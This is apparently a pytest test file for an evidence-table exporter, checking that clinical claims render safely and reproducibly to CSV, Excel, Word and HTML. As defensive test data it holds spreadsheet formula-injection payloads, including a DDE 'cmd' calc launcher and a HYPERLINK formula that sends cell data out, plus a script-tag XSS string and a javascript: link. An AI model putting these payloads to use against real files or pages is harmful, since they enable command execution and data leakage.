"""The evidence table: cells that are text and nothing else, the same bytes twice."""

import csv
import dataclasses
import datetime
import io
import re
import zipfile

import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html
from openpyxl import load_workbook

from evidence.citing.tables import (
    CELL_CHARS,
    COLUMNS,
    EvidenceRow,
    EvidenceTable,
    QuotedPassage,
    armed,
    defused,
    read_csv,
    render_table,
)
from evidence.errors import BadInput
from evidence.vocabulary import Certainty, Stance, Verification

ROW = EvidenceRow(
    claim="rapid-onset",
    statement="Relief comes within hours, in some people.",
    certainty=Certainty.LOW,
    stance=Stance.SUPPORTS,
    reference="sigtermans2009",
    authors="Sigtermans et al.",
    year=2009,
    title='Ketamine "produces" relief; n < 61',
    journal="Pain",
    doi="10.1016/j.pain.2009.06.023",
    design="Randomised trial",
    n=60,
    level=2,
    finding="Less pain from the first day,\nfor eleven weeks",
    passages=(
        QuotedPassage("Pain fell by 2.7 points", "page 306", Verification.EXACT),
        QuotedPassage("The effect was lost by week 12", "figure 2", Verification.NOT_CHECKED),
    ),
    notices=("Expression of concern, 2024-03-01",),
)
# A formula, its disguises, and what only looks like one: a clinical minus, a number with a sign.
LIKE_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    '=HYPERLINK("http://127.0.0.1:18599/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-5.2 mmol/L (95% CI -7 to -3)",
    "'=1+1",
    "''  @x",
]
PLAIN = ["", "1+1", "'quoted' words", "n = 5", "⊕⊕○○ low", "don't", "a\tb", "5 - 3"]


def table(*rows: EvidenceRow) -> EvidenceTable:
    return EvidenceTable(
        title="Table of evidence: =Ketamine",
        language="en",
        version=3,
        date=datetime.date(2026, 5, 12),
        digest="4f9c0a7d",
        rows=rows or (ROW,),
    )


@pytest.mark.parametrize("words", LIKE_FORMULAS)
def test_what_begins_like_a_formula_is_text_in_csv_and_comes_back(words: str) -> None:
    content = render_table(table(dataclasses.replace(ROW, finding=words)), to="csv").content
    cells = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1]
    written = next(
        cell for cell, column in zip(cells, COLUMNS, strict=True) if "Find" in column.title
    )
    assert written == f"'{words}"
    assert read_csv(content)[0]["Finding for this claim"] == words


@pytest.mark.parametrize("words", PLAIN)
def test_other_words_stay_as_they_are(words: str) -> None:
    assert defused(words) == words
    assert armed(words) == words


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\n\u00a0＝a1,\"")) | st.text())
def test_defusing_is_undone_by_arming(words: str) -> None:
    assert armed(defused(words)) == words
    assert not re.match(r"\s*[=+@\-\t\r＝＋－＠]", defused(words))


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cf"]))))
def test_a_table_reads_back_as_it_was(findings: list[str]) -> None:
    rows = tuple(dataclasses.replace(ROW, finding=words, passages=()) for words in findings)
    if rows:
        read = read_csv(render_table(table(*rows), to="csv").content)
        assert [row["Finding for this claim"].strip("\u3164\uffa0") for row in read] == [
            words.strip("\u3164\uffa0") for words in findings
        ]


def test_csv_is_what_the_standard_and_excel_expect() -> None:
    content = render_table(table(), to="csv").content
    assert content.startswith(b"\xef\xbb\xbf")
    lines = content.decode("utf-8-sig").split("\r\n")
    assert lines[0].startswith("Claim,Statement,Certainty,Stance,Reference,Authors,Year,Title")
    assert lines[-1] == ""
    assert '"Ketamine ""produces"" relief; n < 61"' in lines[1]
    (row,) = read_csv(content)
    assert (row["Certainty"], row["Stance"]) == ("Low", "Supports")
    assert (row["N"], row["Level (OCEBM 2011)"], row["Year"]) == ("60", "2", "2009")
    assert row["Passage"] == "Pain fell by 2.7 points\nThe effect was lost by week 12"
    assert row["Locator"] == "page 306\nfigure 2"
    assert row["Notices"] == "Expression of concern, 2024-03-01"


@pytest.mark.parametrize(
    "content",
    [b"", b"a,b\r\n1,2\r\n", b"\xff\xfe=", b'Claim,"Statement\r\n', "Claim\r\n".encode("utf-16")],
    ids=["empty", "another table", "not text", "open quotation", "UTF-16"],
)
def test_what_is_no_table_of_ours_is_refused(content: bytes) -> None:
    with pytest.raises(BadInput):
        read_csv(content)


@pytest.mark.parametrize("words", [*LIKE_FORMULAS, "#REF!", "TRUE", "1e5", "\x00=1"])
def test_no_cell_of_a_workbook_is_a_formula(words: str) -> None:
    row = dataclasses.replace(
        ROW, title=words, finding=words, claim=words, notices=(words,), statement=words
    )
    book = load_workbook(io.BytesIO(render_table(table(row), to="xlsx").content))
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s", "n"}
    values = {cell.value for cell in cells}
    assert words.replace("\x00", "").strip("\n") in {str(value).strip("\n") for value in values}


def test_a_workbook_is_ready_to_be_read_and_printed() -> None:
    book = load_workbook(io.BytesIO(render_table(table(ROW, ROW), to="xlsx").content))
    sheet = book["Evidence"]
    assert [cell.value for cell in sheet[1]] == [column.title for column in COLUMNS]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:U3"
    assert sheet.max_row == 3
    by_title = {column.title: cell for column, cell in zip(COLUMNS, sheet[2], strict=True)}
    assert (by_title["N"].value, by_title["N"].data_type) == (60, "n")
    assert by_title["Finding for this claim"].value == ROW.finding
    assert all(cell.alignment.wrap_text for cell in sheet[2])
    assert sheet.column_dimensions["O"].width == 46
    assert book["About"]["B1"].value == "Table of evidence: =Ketamine"
    assert book.properties.modified == datetime.datetime(2026, 5, 12)


def test_a_cell_holds_what_a_cell_can_and_the_rest_is_told() -> None:
    made = render_table(table(dataclasses.replace(ROW, finding="x" * 40_000)), to="xlsx")
    sheet = load_workbook(io.BytesIO(made.content))["Evidence"]
    assert len(sheet["O2"].value) == CELL_CHARS
    assert [message.code for message in made.messages] == ["cell-shortened"]


@pytest.mark.parametrize("to", ["csv", "xlsx", "docx", "html", "txt"])
def test_the_same_table_has_the_same_bytes(to: str, monkeypatch: pytest.MonkeyPatch) -> None:
    first = render_table(table(), to=to).content
    monkeypatch.setenv("TZ", "Pacific/Auckland")
    assert render_table(table(), to=to).content == first


def test_nothing_in_a_workbook_is_younger_than_its_version() -> None:
    content = render_table(table(), to="xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2026, 5, 12, 0, 0, 0)}


def test_the_document_has_a_table_for_each_claim() -> None:
    other = dataclasses.replace(ROW, claim="other", statement="Another claim.", notices=())
    document = Document(io.BytesIO(render_table(table(ROW, ROW, other), to="table.docx").content))
    assert [len(found.rows) for found in document.tables] == [3, 2]
    cells = [cell.text for cell in document.tables[0].rows[1].cells]
    assert cells[0] == "Supports"
    assert cells[1].startswith('Sigtermans et al. 2009 Ketamine "produces" relief; n < 61. Pain')
    assert cells[2] == "Randomised trial; n\u00a0=\u00a060; level\u00a02"
    assert "“Pain fell by 2.7 points” (page 306, Found in the source, word for word)" in cells[3]
    assert cells[3].endswith("Expression of concern, 2024-03-01.")


def test_hostile_words_are_words_in_a_page() -> None:
    row = dataclasses.replace(ROW, finding="<script>alert(1)</script> $x$ [[[[", doi="javascript:1")
    html = render_table(table(row), to="html").content.decode()
    assert "<script" not in html
    assert 'href="javascript:' not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_format_that_is_none_is_told() -> None:
    with pytest.raises(BadInput, match="pptx"):
        render_table(table(), to="pptx")


@pytest.mark.parametrize(
    ("locale", "said"),
    [
        (None, ["Certainty: low ⊕⊕○○", "Supports", "Found in the source, word for word"]),
        ("de-DE", ["Vertrauenswürdigkeit der Evidenz: niedrig ⊕⊕○○", "Stützt", "Stufe\u00a02",
                   "(page 306, Wörtlich in der Quelle gefunden)", "kein ärztlicher Rat"]),
    ],
)  # fmt: skip
def test_a_document_says_its_labels_in_the_language_and_says_which(
    locale: str | None, said: list[str]
) -> None:
    html = render_table(table(ROW), to="html", locale=locale).content.decode()
    root = lxml_html.fromstring(html)
    words = " ".join("".join(root.itertext()).split(" "))
    for part in said:
        assert part in " ".join(words.split("\n")), part
    foreign = {"".join(node.itertext()).strip() for node in root.xpath("//body//*[@lang='de']")}
    assert ("Stützt" in foreign) == (locale is not None)
    assert not any("Relief comes" in part for part in foreign)


def test_a_csv_has_the_same_headings_in_every_language() -> None:
    plain = render_table(table(ROW), to="csv")
    assert render_table(table(ROW), to="csv", locale="de-DE") == plain
